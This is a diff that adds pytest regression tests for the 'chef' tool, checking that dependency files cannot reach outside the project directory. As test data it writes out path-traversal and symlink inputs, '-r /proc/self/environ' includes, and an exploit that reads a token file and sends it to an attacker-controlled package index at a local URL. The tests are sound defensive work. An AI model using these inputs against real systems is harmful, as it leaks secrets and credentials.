@@ -180,8 +180,8 @@ def test_fifo_and_devices_are_not_read(tmp_path: Path) -> None:
         assert fails(tmp_path, requirements=["requirements.txt"])
         os.unlink(fifo)
         if os.path.exists("/dev/zero"):
-            (tmp_path / "pyproject.toml").symlink_to("/dev/zero")
-            assert "not a regular file" in fails(tmp_path, "pyproject")
+            (tmp_path / "pyproject.toml").symlink_to("/dev/zero")  # refused unopened
+            assert "points outside the project" in fails(tmp_path, "pyproject")
     assert not seen, f"chef opened a FIFO or device in blocking mode: {seen}"
 
 
@@ -334,3 +334,169 @@ def test_failed_prepare_leaves_the_recipe_untouched(case: str, tmp_path: Path) -
     assert len(lines) == 1 and lines[0].startswith("chef: error: pyproject.toml"), done.stderr
     assert recipe.read_bytes() == before
     assert sorted(p.name for p in tmp_path.iterdir()) == ["pyproject.toml", "recipe.json"]
+
+
+# ---------------------------------------------------------------- the project boundary (issue 19)
+
+SECRET = "TOPSECRET-9f3c1"
+
+
+def _outside(root: Path, **kwargs: Any) -> str:
+    message = fails(root, **kwargs)
+    assert "points outside the project directory" in message, message
+    assert SECRET not in message, message
+    return message
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """`tmp_path/p` is the project; `tmp_path/outside/secret.txt` holds a secret, and so does
+    the environment (MYTOKEN)."""
+    write(tmp_path / "outside" / "secret.txt", f"{SECRET}\n")
+    monkeypatch.setenv("MYTOKEN", SECRET)
+    (tmp_path / "p").mkdir()
+    return tmp_path / "p"
+
+
+@pytest.mark.parametrize("line", [
+    "-r /proc/self/environ", "-r ../outside/secret.txt", "-c ../outside/secret.txt",
+    "--requirement=../outside/secret.txt", "-c/proc/self/environ", "-r link.txt",
+    "-r linkdir/secret.txt",
+])
+def test_requirements_includes_stay_in_the_project(project: Path, line: str) -> None:
+    (project / "link.txt").symlink_to("../outside/secret.txt")
+    (project / "linkdir").symlink_to("../outside")
+    write(project / "requirements.txt", f"alpha\n{line}\n")
+    message = _outside(project)
+    assert message.startswith("requirements.txt:2: "), message
+    assert "environ" not in line or "PATH=" not in message
+
+
+def test_requirements_include_paths_are_not_expanded(project: Path) -> None:
+    """pip would read `-r ${MYTOKEN}`; chef neither expands it nor prints the value."""
+    write(project / "requirements.txt", "alpha\n-r ${MYTOKEN}\n")
+    message = fails(project)
+    assert message.startswith("requirements.txt:2: ") and "environment variables" in message
+    assert SECRET not in message
+    write(project / "requirements.txt", "alpha\n-r $MYTOKEN/x.txt\n")  # literal, as pip reads it
+    message = fails(project)
+    assert "not found" in message and SECRET not in message
+
+
+def test_top_level_input_files_linked_out_of_the_project(project: Path) -> None:
+    (project / "requirements.txt").symlink_to("../outside/secret.txt")
+    assert _outside(project).startswith("requirements.txt: ")
+    assert _outside(project, requirements=["requirements.txt"]).startswith("requirements.txt: ")
+    assert "points outside" in _outside(project, requirements=[str(project.parent / "outside"
+                                                                   / "secret.txt")])
+    (project / "requirements.txt").unlink()
+    (project / "pyproject.toml").symlink_to("../outside/secret.txt")
+    assert _outside(project).startswith("pyproject.toml: ")
+    _outside(project, manager="pyproject")
+    for manager, name in (("uv", "uv.lock"), ("poetry", "poetry.lock"), ("pdm", "pdm.lock"),
+                          ("pipenv", "Pipfile.lock"), ("pylock", "pylock.toml"),
+                          ("setuptools", "setup.cfg")):
+        (project / name).symlink_to("../outside/secret.txt")
+        _outside(project, manager=manager)
+        _outside(project)  # found, and refused unopened
+        (project / name).unlink()
+
+
+def test_local_package_files_linked_out_of_the_project(project: Path) -> None:
+    write(project / "pyproject.toml", '[project]\nname = "app"\nversion = "1"\n'
+          'dependencies = ["lib"]\n[tool.uv.sources]\nlib = { path = "lib" }\n')
+    (project / "lib").mkdir()
+    (project / "lib" / "pyproject.toml").symlink_to("../../outside/secret.txt")
+    _outside(project)
+
+
+def test_setup_cfg_file_directives_stay_in_the_project(project: Path) -> None:
+    for value in ("file: ../outside/secret.txt", "file: /proc/self/environ",
+                  "file: reqs.txt, ../outside/secret.txt"):
+        write(project / "reqs.txt", "alpha\n")
+        write(project / "setup.cfg", f"[metadata]\nname = a\n[options]\ninstall_requires = "
+              f"{value}\n")
+        message = _outside(project)
+        assert message.startswith("setup.cfg: ") and "options.install_requires" in message
+        write(project / "setup.cfg", f"[metadata]\nname = a\n[options]\ninstall_requires = "
+              f"alpha\n[options.extras_require]\nx = {value}\n")
+        assert "options.extras_require.x" in _outside(project)
+
+
+@pytest.mark.parametrize("pattern", ["/*/*/*", "/etc", "../*", "packages/../../*", "~/*"])
+def test_workspace_member_patterns_stay_in_the_project(project: Path, pattern: str) -> None:
+    write(project / "pyproject.toml", f'[tool.uv.workspace]\nmembers = ["{pattern}"]\n')
+    message = _outside(project, manager="pyproject")
+    assert message.startswith("pyproject.toml: ") and pattern in message
+
+
+def test_workspace_members_never_walk_out_through_symlinks(project: Path) -> None:
+    write(project.parent / "outside" / "evil" / "pyproject.toml",
+          '[project]\nname = "evil"\nversion = "1"\ndependencies = ["evil-dep"]\n')
+    write(project / "pyproject.toml", '[tool.uv.workspace]\nmembers = ["packages/*", "*/*/*"]\n')
+    write(project / "packages" / "a" / "pyproject.toml",
+          '[project]\nname = "a"\nversion = "1"\ndependencies = ["alpha"]\n')
+    (project / "up").symlink_to("..")  # `*/*/*` would reach ../outside/evil through it
+    (project / "packages" / "self").symlink_to(".")
+    (project / "loop").symlink_to("packages")  # inside the project: walked, counted once
+    result = prepare(project, manager="pyproject")
+    assert [d.name for d in result.recipe.roots] == ["alpha"]
+    assert "evil" not in result.text
+    (project / "packages" / "evil").symlink_to("../../outside/evil")  # a member out: refused
+    assert "packages/*" in _outside(project, manager="pyproject")
+
+
+def test_monorepo_includes_inside_the_project_keep_working(project: Path) -> None:
+    write(project / "common.txt", "alpha\n")
+    write(project / "services" / "api" / "requirements.txt", "-r ../../common.txt\nbeta\n")
+    (project / "services" / "api" / "shared.txt").symlink_to("../../common.txt")
+    write(project / "services" / "web" / "requirements.txt", "-c ../api/shared.txt\nalpha\n")
+    result = prepare(project, requirements=["services/api/requirements.txt",
+                                            "services/web/requirements.txt",
+                                            str(project / "common.txt")])
+    assert sorted(d.name for d in result.recipe.roots) == ["alpha", "beta"]
+
+
+def test_recipe_path_linked_out_of_the_project_is_not_written_through(project: Path) -> None:
+    """`recipe.json -> ../victim/important.conf` shipped by the repository (chef prepare in a
+    planner stage after COPY . .): the victim is untouched, the link becomes the recipe."""
+    write(project / "pyproject.toml", '[project]\nname = "a"\nversion = "1"\n'
+          'dependencies = ["alpha"]\n')
+    victim = write(project.parent / "victim" / "important.conf", "keep\n")
+    (project / "recipe.json").symlink_to("../victim/important.conf")
+    done = chef("prepare", "--project-dir", str(project), "--recipe-path",
+                str(project / "recipe.json"))
+    assert done.returncode == 0, done.stderr
+    assert victim.read_text() == "keep\n"
+    assert not (project / "recipe.json").is_symlink()
+    assert '"alpha"' in (project / "recipe.json").read_text()
+    (project / "recipe.json").unlink()
+    (project / "out").symlink_to("../victim")
+    done = chef("prepare", "--project-dir", str(project), "--recipe-path",
+                str(project / "out" / "recipe.json"))
+    assert done.returncode == errors.EXIT_RECIPE, done.stderr
+    assert len(done.stderr.strip().splitlines()) == 1 and "outside the project" in done.stderr
+    assert sorted(p.name for p in victim.parent.iterdir()) == ["important.conf"]
+
+
+def test_include_paths_over_the_name_limit(project: Path) -> None:
+    """`-r <5000 characters>` was exit 70 (os.stat's ENAMETOOLONG)."""
+    for value in ("a" * 5000, "/".join(["b" * 200] * 30)):
+        write(project / "requirements.txt", f"alpha\n-r {value}\n")
+        message = fails(project)
+        assert message.startswith("requirements.txt:2: ") and "too long" in message
+    message = fails(project, requirements=["c" * 5000])
+    assert "too long" in message
+
+
+def test_a_token_file_never_reaches_the_recipe_or_an_index_url(project: Path) -> None:
+    """The issue's exploit: `-i http://127.0.0.1:8765/simple` and `-r` of a token file put the
+    token in recipe.json (as a requirement name) and cook asked the attacker's index for it."""
+    write(project / "requirements.txt",
+          "-i http://127.0.0.1:8765/simple\n-r ../outside/secret.txt\n")
+    recipe = project.parent / "recipe.json"
+    done = chef("prepare", "--project-dir", str(project), "--recipe-path", str(recipe))
+    assert done.returncode == errors.EXIT_INPUT
+    assert SECRET not in done.stderr + done.stdout
+    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
+    assert not recipe.exists()
